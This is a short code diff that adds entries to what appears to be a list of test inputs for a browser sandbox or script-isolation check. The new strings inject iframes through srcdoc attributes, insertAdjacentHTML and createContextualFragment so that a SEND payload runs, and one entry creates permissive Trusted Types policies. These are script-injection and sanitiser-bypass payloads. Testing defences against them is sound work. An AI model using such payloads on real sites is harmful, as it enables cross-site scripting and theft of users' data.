@@ -154,6 +154,13 @@ SEND = (
         + "<\\/script>\"></iframe>`, 'text/html').body.firstChild)",
         "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(`" + SEND + "`)",
         "const f = document.createElement('iframe'); f.src = `javascript:" + SEND + "`; document.body.append(f)",
+        "const f = document.createElement('iframe'); const a = document.createAttribute('srcdoc'); a.value = `<script>"
+        + SEND
+        + "<\\/script>`; f.setAttributeNode(a); document.body.append(f)",
+        "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>" + SEND + '<\\/script>"></iframe>`)',
+        'document.body.append(document.createRange().createContextualFragment(`<iframe srcdoc="<script>'
+        + SEND
+        + '<\\/script>"></iframe>`))',
         "trustedTypes.createPolicy('default', {{createHTML: (s) => s}}); trustedTypes.createPolicy('mine', {{createHTML: (s) => s}})",
     ],
 )
